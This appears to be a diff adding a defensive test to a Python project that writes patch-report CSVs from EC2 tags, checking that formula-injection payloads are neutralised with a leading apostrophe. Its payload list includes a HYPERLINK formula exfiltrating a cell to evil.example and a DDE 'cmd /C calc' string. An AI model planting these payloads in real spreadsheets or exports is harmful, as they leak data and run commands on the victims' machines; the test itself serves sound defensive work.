@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import dataclasses
 import json
 import os
 from datetime import UTC, datetime, timedelta
@@ -320,3 +321,24 @@ def test_unsafe_node_ids_get_distinct_safe_file_names() -> None:
     c = node_file_stem("../etc")
     assert a != b and os.sep not in a and " " not in a
     assert a.startswith("eu_web_1-") and not c.startswith(".")
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0",
+            "+1+1", "-2+3", "\t=1+1", "\r=1+1"]
+
+
+@pytest.mark.parametrize("payload", FORMULAS)
+def test_tag_values_never_reach_a_spreadsheet_as_formulas(tmp_path: Path, payload: str) -> None:
+    """Names come from EC2 Name tags and patch groups from PatchGroup tags: both are written by
+    whoever may tag an instance. OWASP: prefix a cell that would start a formula with '."""
+    nodes = [dataclasses.replace(r, patch_group=payload) for r in results()]
+    files = write_reports_from_results(tmp_path, nodes, names={"web-1": payload},
+                                       detail_nodes=["web-1"])
+    rows = read_csv(files.all_nodes)
+    web = next(r for r in rows if r[1] == "web-1")
+    assert web[2] == "'" + payload and web[8] == "'" + payload
+    for path in [files.all_nodes, *files.node_patches.values()]:
+        for row in read_csv(path):
+            assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row), row
+            assert not any(cell.startswith("-") and not cell.lstrip("-").isdigit()
+                           for cell in row), row
